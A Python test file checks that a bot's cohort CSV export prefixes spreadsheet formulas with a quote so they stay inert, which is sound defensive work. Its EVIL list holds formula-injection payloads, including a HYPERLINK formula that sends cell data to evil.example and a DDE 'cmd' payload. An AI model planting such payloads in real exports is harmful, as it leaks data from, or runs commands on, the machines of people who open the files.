"""Every spreadsheet export makes formulas inert, with one guard (bot.documents.cells)."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime

import pytest

from bot.db.repositories import CohortRecord
from bot.documents.cells import safe_cell
from bot.documents.reports import cohort_csv
from bot.i18n import I18n
from bot.services.cohorts import CohortProgress, MemberProgress

T0 = datetime(2026, 11, 30, 12, 0, tzinfo=UTC)
EVIL = [
    '=HYPERLINK("http://evil.example/?d="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("name", EVIL)
def test_a_members_name_never_runs_as_a_formula_in_the_cohort_csv(name: str) -> None:
    cohort = CohortRecord(1, 2, "=cmd", "en", None, T0, 1)
    member = MemberProgress(name, T0, T0, ())
    data = cohort_csv(I18n(default="en").translator("en"), CohortProgress(cohort, (), (member,)))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
    assert rows[1][0] == "'" + name, "shown as text, not run"


def test_the_guard_leaves_plain_values_alone() -> None:
    assert safe_cell("Awa Camara") == "Awa Camara"
    assert safe_cell(3) == 3, "a number stays a number"
    assert safe_cell("2026-11-30") == "2026-11-30"
